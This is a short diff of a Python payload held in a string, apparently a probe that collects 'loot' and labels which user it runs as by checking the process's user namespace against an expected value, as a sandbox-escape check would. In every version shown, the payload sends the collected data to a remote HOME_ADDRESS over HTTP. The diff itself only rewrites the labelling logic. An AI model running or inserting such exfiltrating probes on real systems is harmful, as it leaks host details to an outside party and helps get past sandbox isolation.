@@ -82,9 +82,9 @@ try:
         loot.append(b"!!!" + ENGINE.encode())
 except OSError:
     pass
-user = "ourselves" if os.getuid() == REAL_USER else "another user"
-user = user if os.readlink("/proc/self/ns/user") == "OUR_SPACE" else "the sandbox's user"
-loot.append(f"as {user}".encode())
+apart = os.readlink("/proc/self/ns/user") != "OUR_SPACE"
+kinds = {(1000, True): "the sandbox's user", (REAL_USER, False): "ourselves"}
+loot.append(b"as " + kinds.get((os.getuid(), apart), "another user").encode())
 urllib.request.urlopen(HOME_ADDRESS, data=b"\n".join(loot)).read()
 """
 
